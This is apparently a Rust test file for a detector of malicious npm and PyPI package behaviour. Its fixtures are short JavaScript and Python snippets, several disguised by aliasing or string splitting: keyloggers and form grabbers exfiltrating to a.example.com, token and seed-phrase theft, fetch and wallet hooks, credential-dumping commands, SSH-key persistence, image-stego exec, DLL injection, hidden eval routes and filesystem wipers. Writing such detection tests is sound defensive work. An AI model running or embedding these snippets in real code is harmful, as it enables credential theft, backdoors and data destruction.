//! The words of attacks since 2024, each by several ways to write it: direct, by another name, taken apart, computed, folded.

use cerebro::behavior::{Feature, Step};
use rstest::rstest;

use super::steps;

fn told(steps: &[Step], feature: Feature, detail: &str) -> bool {
    steps.iter().any(|step| step.feature == feature && step.detail.contains(detail))
}

fn check(path: &str, source: &str, feature: Feature, detail: &str) {
    let steps = steps(path, source);
    let found: Vec<String> = steps.iter().map(|step| format!("{} {}", step.feature.code(), step.detail)).collect();
    assert!(told(&steps, feature, detail), "no {} {detail} in\n{source}\n{found:?}", feature.code());
}

fn check_not(path: &str, source: &str, feature: Feature, detail: &str) {
    let steps = steps(path, source);
    let found: Vec<String> = steps.iter().map(|step| format!("{} {}", step.feature.code(), step.detail)).collect();
    assert!(!told(&steps, feature, detail), "{} {detail} in\n{source}\n{found:?}", feature.code());
}

/// What a page's user does, where it leaves the page.
#[rstest]
#[case::direct("document.addEventListener('keydown', e => fetch('https://a.example.com/?k=' + e.key))", "keyboard")]
#[case::folded(
    "document.addEventListener('key' + 'down', e => fetch('https://a.example.com/?k=' + e.key))",
    "keyboard"
)]
#[case::other_name(
    "const on = 'keydown'; const d = document; d.addEventListener(on, e => fetch('https://a.example.com/?k=' + e.key))",
    "keyboard"
)]
#[case::computed(
    "document['addEvent' + 'Listener']('keyup', ({ key }) => fetch('https://a.example.com/' + key))",
    "keyboard"
)]
#[case::kept(
    "let all = ''; document.addEventListener('keypress', e => { all += e.key }); setInterval(() => navigator.sendBeacon('https://a.example.com', all), 9)",
    "keyboard"
)]
#[case::handler("document.onkeydown = e => { fetch('https://a.example.com/' + e.key) }", "keyboard")]
#[case::form(
    "document.querySelector('form').addEventListener('submit', e => fetch('https://a.example.com', { method: 'POST', body: new FormData(e.target) }))",
    "form"
)]
#[case::jquery("$('input').on('input', e => $.post('https://a.example.com', { v: e.target.value }))", "form")]
#[case::pasted(
    "document.addEventListener('paste', e => fetch('https://a.example.com/' + e.clipboardData.getData('text')))",
    "clipboard"
)]
fn listeners_that_send(#[case] source: &str, #[case] kind: &str) {
    check("a.js", source, Feature::CaptureInput, kind);
    check("a.js", source, Feature::SendData, "send input");
}

#[rstest]
#[case("document.addEventListener('keydown', e => { if (e.key === 'Escape') close() })")]
#[case("document.addEventListener('click', e => fetch('https://a.example.com/' + e.x))")]
#[case("process.on('exit', code => fetch('https://a.example.com/' + code))")]
fn listeners_that_keep_to_themselves(#[case] source: &str) {
    check_not("a.js", source, Feature::CaptureInput, "");
}

/// Sending told from asking.
#[rstest]
#[case("fetch('https://a.example.com', { method: 'POST', body: x })", "http post")]
#[case("const f = fetch, o = { method: 'PO' + 'ST' }; f('https://a.example.com', o)", "http post")]
#[case("fetch('https://a.example.com', { method: 'get' })", "http get")]
#[case("fetch('https://a.example.com')", "fetch")]
#[case("require('https').request({ hostname: 'a.example.com', method: 'PUT' })", "http post")]
#[case("const { request: r } = require('https'); r('https://a.example.com', { method: 'POST' })", "http post")]
#[case("require('axios')({ method: 'post', url: 'https://a.example.com' })", "http post")]
#[case("$.ajax({ type: 'POST', url: 'https://a.example.com' })", "http post")]
#[case("const x = new XMLHttpRequest(); x.open('POST', 'https://a.example.com')", "http post")]
fn verbs_in_javascript(#[case] source: &str, #[case] words: &str) {
    check("a.js", source, Feature::CallNetwork, words);
}

#[rstest]
#[case("import requests\nrequests.request('POST', 'https://a.example.com')", "http post")]
#[case("import requests\nrequests.request('GET', 'https://a.example.com')", "http get")]
#[case("from requests import request as r\nr(method='po' + 'st', url='https://a.example.com')", "http post")]
#[case("import urllib.request as u\nu.urlopen(u.Request('https://a.example.com', data=b'x'))", "http post")]
#[case(
    "import http.client\nc = http.client.HTTPSConnection('a.example.com')\nc.request('POST', '/x', b'y')",
    "http post"
)]
#[case("import http.client\nc = http.client.HTTPSConnection('a.example.com')\nc.request('GET', '/x')", "http get")]
fn verbs_in_python(#[case] source: &str, #[case] words: &str) {
    check("a.py", source, Feature::CallNetwork, words);
}

/// Data in headers, in the query, in the name of a host, in a hidden copy of a mail.
#[rstest]
#[case("a.js", "fetch('https://a.example.com', { headers: { 'X-A': process.env.NPM_TOKEN } })", "send secret")]
#[case(
    "a.js",
    "const { NPM_TOKEN: t } = process.env; const h = {}; h['x'] = t; fetch('https://a.example.com', { headers: h })",
    "send secret"
)]
#[case(
    "a.py",
    "import os, requests\nrequests.get('https://a.example.com', headers={'X-A': os.environ['NPM_TOKEN']})",
    "send secret"
)]
#[case(
    "a.py",
    "import os, requests as r\nh = dict(a=os.getenv('NPM' + '_TOKEN'))\nr.get('https://a.example.com', headers=h)",
    "send secret"
)]
fn data_in_headers(#[case] path: &str, #[case] source: &str, #[case] detail: &str) {
    check(path, source, Feature::SendData, detail);
}

/// Parameters that are secrets.
#[rstest]
#[case::direct("a.js", "exports.load = function (mnemonic) { fetch('https://a.example.com/' + mnemonic) }")]
#[case::property(
    "a.js",
    "exports.load = ({ privateKey }) => fetch('https://a.example.com', { method: 'POST', body: privateKey })"
)]
#[case::python(
    "a.py",
    "import requests\ndef load(private_key):\n    requests.post('https://a.example.com', data=private_key)"
)]
#[case::keyword(
    "a.py",
    "import requests\ndef load(*, seed_phrase=None):\n    requests.post('https://a.example.com', json={'a': seed_phrase})"
)]
#[case::method(
    "a.py",
    "import requests\nclass W:\n    def __init__(self, secret_key):\n        requests.post('https://a.example.com', json={'a': secret_key})"
)]
fn secrets_asked_for(#[case] path: &str, #[case] source: &str) {
    check(path, source, Feature::SendData, "send secret");
    check(path, source, Feature::ReadSecret, "parameter");
}

#[rstest]
#[case(
    "a.py",
    "import requests\ndef ask(prompt, seed):\n    requests.post('https://a.example.com', json={'seed': seed})"
)]
#[case(
    "a.py",
    "import requests, jwt\ndef ask(private_key):\n    requests.post('https://a.example.com', data=jwt.signed(private_key))"
)]
#[case("a.js", "exports.f = function (privateKey) { fetch('https://a.example.com/' + sign('x', privateKey)) }")]
fn no_secrets(#[case] path: &str, #[case] source: &str) {
    check_not(path, source, Feature::SendData, "send secret");
}

/// Functions of others replaced.
#[rstest]
#[case("const o = globalThis.fetch; globalThis['fe' + 'tch'] = (...a) => o(...a)", "network calls")]
#[case("const { fetch: o } = window; window.fetch = async (...a) => { see(a); return o(...a) }", "network calls")]
#[case(
    "const P = XMLHttpRequest.prototype, s = P.send; P.send = function (b) { return s.call(this, b) }",
    "network calls"
)]
#[case(
    "const { prototype: p } = XMLHttpRequest; const s = p.open; p.open = function () { return s.apply(this, arguments) }",
    "network calls"
)]
#[case(
    "const http = require('http'); const r = http.request; http.request = function (...a) { return r.apply(http, a) }",
    "network calls"
)]
#[case("const e = window.ethereum, r = e.request; e.request = async a => r(a)", "wallet calls")]
#[case(
    "const M = require('module'), l = M._load; M['_lo' + 'ad'] = function () { return l.apply(this, arguments) }",
    "module loads"
)]
#[case("const o = fetch; Object.defineProperty(globalThis, 'fetch', { value: (...a) => o(...a) })", "network calls")]
#[case(
    "globalThis.fetch = new Proxy(globalThis.fetch, { apply(t, s, a) { see(a); return t.apply(s, a) } })",
    "network calls"
)]
#[case("const o = fetch; Object.assign(globalThis, { fetch: (...a) => o(...a) })", "network calls")]
fn hooks(#[case] source: &str, #[case] detail: &str) {
    check("a.js", source, Feature::CaptureInput, detail);
}

#[rstest]
#[case(
    "import requests\nold = requests.Session.send\ndef send(self, *a, **k): return old(self, *a, **k)\nsetattr(requests.Session, 'se' + 'nd', send)",
    "network calls"
)]
#[case(
    "from requests import Session as S\nold = S.request\nS.request = lambda self, *a, **k: old(self, *a, **k)",
    "network calls"
)]
#[case("import builtins\nold = builtins.open\ndef f(*a, **k): return old(*a, **k)\nbuiltins.open = f", "file calls")]
fn hooks_in_python(#[case] source: &str, #[case] detail: &str) {
    check("a.py", source, Feature::CaptureInput, detail);
}

/// Builds, registries, clouds, agents: what commands say.
#[rstest]
#[case("gh auth token", Feature::ReadSecret, "git keys")]
#[case("npm token list --json", Feature::ReadSecret, "package keys")]
#[case("npm whoami", Feature::ReadSecret, "registry account")]
#[case("npm publish --access public", Feature::Publish, "publish")]
#[case("trufflehog filesystem / --json", Feature::ReadSecret, "build secrets")]
#[case("docker run -v /:/host alpine sh", Feature::CallProcess, "container host folder")]
#[case("kubectl get secrets -A -o yaml", Feature::ReadSecret, "cloud keys")]
#[case("aws secretsmanager list-secrets", Feature::ReadSecret, "cloud keys")]
#[case("gcloud secrets list", Feature::ReadSecret, "cloud keys")]
#[case("cat /proc/1234/mem", Feature::ReadSecret, "build secrets")]
#[case("claude --dangerously-skip-permissions -p x", Feature::CallProcess, "agent unattended")]
#[case("gemini --yolo -p x", Feature::CallProcess, "agent unattended")]
#[case("q chat --trust-all-tools --no-interactive x", Feature::CallProcess, "agent unattended")]
#[case("ufw allow 22", Feature::Persist, "firewall")]
#[case("rm -rf *", Feature::Destroy, "delete all")]
#[case("./m -o stratum+tcp://203.0.113.9:3333 -u x", Feature::CallProcess, "miner")]
#[case("rundll32 x.dll,Start", Feature::LoadNative, "native")]
#[case("chrome --load-extension=/tmp/x", Feature::Persist, "browser extension")]
fn commands(#[case] command: &str, #[case] feature: Feature, #[case] detail: &str) {
    let (head, tail) = command.split_at(command.len() / 2);
    let words = command.split(' ').map(|word| format!("'{word}'")).collect::<Vec<_>>().join(", ");
    for source in [
        format!("import os\nos.system('{command}')"),
        format!("import os as o\nrun = o.system\nrun('{head}' + '{tail}')"),
        format!("from subprocess import run as r\nr([{words}])"),
        format!("import subprocess\ngetattr(subprocess, 'ru' + 'n')('{command}', shell=True)"),
    ] {
        check("a.py", &source, feature, detail);
    }
    for source in [
        format!("require('child_process').execSync('{command}')"),
        format!("const {{ exec: e }} = require('child_process'); e('{head}' + '{tail}')"),
        format!("const c = require('child_process'); c['exe' + 'cSync'](['{head}', '{tail}'].join(''))"),
        format!("import * as c from 'node:child_process'; const [p, ...a] = [{words}]; c.spawn(p, a)"),
    ] {
        check("a.js", &source, feature, detail);
    }
}

/// The own manifest, other places that last, secrets in files.
#[rstest]
#[case("a.js", "require('fs').writeFileSync('package.json', JSON.stringify(p))", Feature::CallFiles, "write manifest")]
#[case(
    "a.js",
    "const { writeFileSync: w } = require('fs'); w(d + '/pack' + 'age.json', p)",
    Feature::CallFiles,
    "write manifest"
)]
#[case("a.py", "import pathlib\npathlib.Path('x', 'package.json').write_text(p)", Feature::CallFiles, "write manifest")]
#[case("a.py", "open('/root/.ssh/authorized_keys', 'a').write(k)", Feature::Persist, "login key")]
#[case(
    "a.js",
    "const { appendFileSync: w } = require('fs'); w(h + '/.ssh/' + 'authorized_keys', k)",
    Feature::Persist,
    "login key"
)]
#[case("a.js", "require('fs').writeFileSync('.github/workflows/x.yml', y)", Feature::Persist, "editor hook")]
#[case("a.js", "require('fs').writeFileSync(h + '/.claude/settings.json', y)", Feature::Persist, "editor hook")]
#[case("a.py", "import json\njson.load(open(h + '/.cursor/mcp.json'))", Feature::ReadSecret, "agent data")]
#[case("a.js", "process.env.NODE_OPTIONS = '--require ' + f", Feature::Persist, "interpreter start")]
#[case(
    "a.js",
    "require('child_process').spawn('node', ['a.js'], { env: { NODE_OPTIONS: '--require ./x.js' } })",
    Feature::Persist,
    "interpreter start"
)]
#[case("a.py", "import os\nos.environ['NODE_OPTIONS'] = '--require /tmp/x.js'", Feature::Persist, "interpreter start")]
#[case(
    "a.py",
    "import win32com.client as c\nc.Dispatch('WScript.Shell').CreateShortCut(p + '.lnk')",
    Feature::Persist,
    "shortcut"
)]
#[case("a.js", "const x = '${{ toJSON(secrets) }}'", Feature::ReadSecret, "build secrets")]
fn places(#[case] path: &str, #[case] source: &str, #[case] feature: Feature, #[case] detail: &str) {
    check(path, source, feature, detail);
}

/// Public places that an address is read from, and what carries a payload.
#[rstest]
#[case(
    "a.js",
    "const { Connection } = require('@solana/web3.js'); const c = new Connection(u); c.getSignaturesForAddress(k)",
    Feature::CallNetwork,
    "chain call"
)]
#[case(
    "a.js",
    "import * as s from '@solana/web3.js'; const m = 'getSignatures' + 'ForAddress'; new s.Connection(u)[m](k)",
    Feature::CallNetwork,
    "chain call"
)]
#[case(
    "a.js",
    "const { ethers: e } = require('ethers'); const k = new e.Contract(a, b, p); k.getUrl()",
    Feature::CallNetwork,
    "chain call"
)]
#[case(
    "a.js",
    "const { Contract } = require('ethers'); new Contract(a, b, p).read('x')",
    Feature::CallNetwork,
    "chain call"
)]
#[case(
    "a.py",
    "from web3 import Web3 as W\nw = W(W.HTTPProvider(u))\nw.eth.call({'to': a})",
    Feature::CallNetwork,
    "chain call"
)]
#[case("a.js", "fetch('https://tdystuyaaqaajzlcv-cai.raw.icp0' + '.io/')", Feature::UseUrl, "dead drop")]
#[case("a.js", "fetch('https://calendar.app.google/abc')", Feature::UseUrl, "dead drop")]
#[case(
    "a.py",
    "import requests\nrequests.get('https://sheets.googleapis.com/v4/spreadsheets/x')",
    Feature::UseUrl,
    "dead drop"
)]
#[case(
    "a.js",
    "const d = s => [...s].map(c => c.codePointAt(0) - 0xfe00)",
    Feature::CallEncoding,
    "invisible characters"
)]
#[case("a.py", "def d(s): return [ord(c) - 0xE0100 for c in s]", Feature::CallEncoding, "invisible characters")]
#[case(
    "a.js",
    "const x = 'a\u{fe01}\u{fe02}\u{fe03}\u{fe04}\u{fe05}\u{fe06}\u{fe07}\u{fe08}\u{fe09}'",
    Feature::HideCode,
    "invisible text"
)]
#[case(
    "a.py",
    "x = 'abcdefgh\u{200b}\u{200c}\u{200b}\u{200c}\u{200b}\u{200c}\u{200b}\u{200c}'",
    Feature::HideCode,
    "invisible text"
)]
#[case(
    "a.py",
    "from PIL import Image\nexec(bytes(Image.open('a.png').getdata()))",
    Feature::RunDecoded,
    "run decoded code"
)]
#[case(
    "a.py",
    "import PIL.Image as I\nd = I.open('a.png').convert('RGB').getdata()\nexec(bytes(d))",
    Feature::RunDecoded,
    "run decoded code"
)]
#[case(
    "a.py",
    "import wave\nw = wave.open('a.wav')\nexec(w.readframes(w.getnframes()))",
    Feature::RunDecoded,
    "run decoded code"
)]
#[case(
    "a.js",
    "const { PNG } = require('pngjs'); const p = PNG.sync.read(b); eval(String(p.data))",
    Feature::RunDecoded,
    "run decoded code"
)]
#[case(
    "a.js",
    "const d = document.createElement('canvas').getContext('2d').getImageData(0, 0, 9, 9).data; eval(f(d))",
    Feature::RunDecoded,
    "run decoded code"
)]
fn carriers(#[case] path: &str, #[case] source: &str, #[case] feature: Feature, #[case] detail: &str) {
    check(path, source, feature, detail);
}

/// Bundled binaries, serialized objects, memory of other processes.
#[rstest]
#[case("a.py", "import ctypes\nctypes.WinDLL('./x.dll')", Feature::LoadNative, "native")]
#[case("a.py", "from ctypes import cdll as c\nc.LoadLibrary('./x' + '.so')", Feature::LoadNative, "native")]
#[case("a.js", "require('./build/x.node')", Feature::LoadNative, "native")]
#[case("a.js", "const p = './x' + '.node'; require(p)", Feature::LoadNative, "native")]
#[case("a.js", "const { dlopen: d } = process; d(module, 'x.node')", Feature::LoadNative, "native")]
#[case(
    "a.js",
    "require('child_process').execFile(require('path').join(__dirname, 'bin', 'x.exe'))",
    Feature::CallProcess,
    "program"
)]
#[case(
    "a.py",
    "import subprocess, os\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'x.exe')])",
    Feature::CallProcess,
    "program"
)]
#[case("a.py", "import torch as t\nt.load(f)", Feature::EvaluateCode, "unmarshal")]
#[case("a.py", "from numpy import load as l\nl('a.npy', allow_pickle=True)", Feature::EvaluateCode, "unmarshal")]
#[case(
    "a.py",
    "import numpy as np\no = {'allow_' + 'pickle': True}\nnp.load('a.npy', **o)",
    Feature::EvaluateCode,
    "unmarshal"
)]
#[case(
    "a.py",
    "from ctypes import windll as w\nk = w.kernel32\nk.CreateRemoteThread(h, 0, 0, p, 0, 0, 0)",
    Feature::LoadNative,
    "inject memory"
)]
#[case(
    "a.py",
    "import ctypes\ngetattr(ctypes.windll.kernel32, 'Virtual' + 'Alloc')(0, 9, 9, 9)",
    Feature::LoadNative,
    "inject memory"
)]
#[case(
    "a.py",
    "import pyperclip as p, re\nif re.match('^0x[a-fA-F0-9]{40}$', p.paste()): p.copy('x')",
    Feature::CaptureInput,
    "clipboard wallet"
)]
#[case(
    "a.js",
    "const { writeSync: w, readSync } = require('clipboardy'); if (/^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/.test(readSync())) w('x')",
    Feature::CaptureInput,
    "clipboard wallet"
)]
fn native(#[case] path: &str, #[case] source: &str, #[case] feature: Feature, #[case] detail: &str) {
    check(path, source, feature, detail);
}

/// What somebody who knows of a route can have run.
#[rstest]
#[case(
    "a.js",
    "const app = require('express')(); app.get('/__x', (req, res) => res.send(eval(req.query.c)))",
    "downloaded code"
)]
#[case(
    "a.js",
    "const { createServer: s } = require('http'); s((req, res) => { require('child_process').exec(req.headers['x-c']) }).listen(9)",
    "downloaded program"
)]
#[case(
    "a.py",
    "from flask import Flask, request\na = Flask('x')\n@a.route('/__x')\ndef x():\n    return eval(request.args.get('c'))",
    "downloaded code"
)]
fn hidden_routes(#[case] path: &str, #[case] source: &str, #[case] detail: &str) {
    check(path, source, Feature::RunDownloaded, detail);
}

/// Wipers that are given everything.
#[rstest]
#[case(
    "a.js",
    "const fs = require('fs'), path = require('path'); function w(d) { for (const n of fs.readdirSync(d)) { const f = path.join(d, n); fs.lstatSync(f).isDirectory() ? w(f) : fs.writeFile(f, '-', () => {}) } } w('./'); w('/')",
    "overwrite system folder"
)]
#[case(
    "a.js",
    "import { readdirSync as r, unlinkSync as u } from 'fs'; import { homedir } from 'os'; const w = d => r(d).forEach(n => u(d + '/' + n)); w(homedir())",
    "delete home folder"
)]
#[case(
    "a.py",
    "import os\ndef w(d):\n    for n in os.listdir(d):\n        os.remove(d + '/' + n)\nw('/')",
    "delete system folder"
)]
#[case("a.py", "import shutil\nshutil.rmtree('/')", "delete system folder")]
#[case("a.py", "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home())", "delete home folder")]
fn wipers(#[case] path: &str, #[case] source: &str, #[case] detail: &str) {
    check(path, source, Feature::Destroy, detail);
}

#[rstest]
#[case("a.py", "import shutil\nshutil.rmtree('/opt/app/cache')")]
#[case("a.js", "const fs = require('fs'); const list = d => fs.readdirSync(d); list('/')")]
fn no_wipers(#[case] path: &str, #[case] source: &str) {
    check_not(path, source, Feature::Destroy, "");
}
